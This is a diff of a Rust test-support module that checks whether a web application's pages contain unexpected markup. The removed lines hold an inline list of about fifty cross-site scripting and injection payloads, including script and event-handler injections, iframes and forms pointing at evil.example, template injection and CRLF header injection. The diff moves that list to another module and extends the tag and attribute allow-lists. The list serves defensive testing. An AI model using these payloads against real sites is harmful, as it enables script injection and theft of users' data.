@@ -1,69 +1,18 @@
-//! What somebody writes into a contact to harm whoever looks at it, and whether a page holds more than its own markup.
+//! Does a page hold more than its own markup?
 
 use regex::Regex;
 
 use super::visitor::Visitor;
 
-pub const PAYLOADS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x>",
-    "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>",
-    "\" onmouseover=\"alert(1)",
-    "' onfocus='alert(1)' autofocus='",
-    "\" style=\"background:url(https://evil.example/x)",
-    "javascript:alert(1)",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<iframe src=//evil.example>",
-    "<object data=//evil.example>",
-    "<embed src=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example>",
-    "<form action=//evil.example><input name=csrf>",
-    "</form><form action=//evil.example>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</pre><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<ScRiPt >alert(1)</sCrIpT>",
-    "<script/x>alert(1)</script/x>",
-    "<<script>alert(1)//<</script>",
-    "<x onclick=alert(1)>",
-    "{{constructor.constructor('alert(1)')()}}",
-    "${alert(1)}",
-    "{{7*7}}",
-    "\u{202e}<script>alert(1)</script>",
-    "a\u{0}b\u{8}c\u{1b}[31mred",
-    "a\u{200b}b\u{feff}c\u{2066}d",
-    "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
-];
+pub use super::payloads::PAYLOADS;
 
 const TAGS: &str = " html head meta title link script body header a svg path rect line span nav form input button main h1 h2 h3 p ul li \
                     strong section figure figcaption table thead tbody tr th td time div label select option datalist dl dt dd \
-                    details summary pre ol article small code meter ";
+                    details summary pre ol article small code meter textarea h4 ";
 const ATTRIBUTES: &str = " lang charset name content rel href src defer class viewbox width height aria-hidden d aria-label \
                           aria-current aria-labelledby method action type value title role id tabindex datetime scope data-live \
                           list maxlength placeholder selected start required autocomplete preserveaspectratio x y x1 x2 y1 y2 \
-                          min max ";
+                          min max rows spellcheck autocapitalize data-desk aria-live open hidden formaction ";
 
 /// Elements, attributes and addresses that no page of ours has; characters that hide.
 pub fn strange(page: &str) -> Vec<String> {
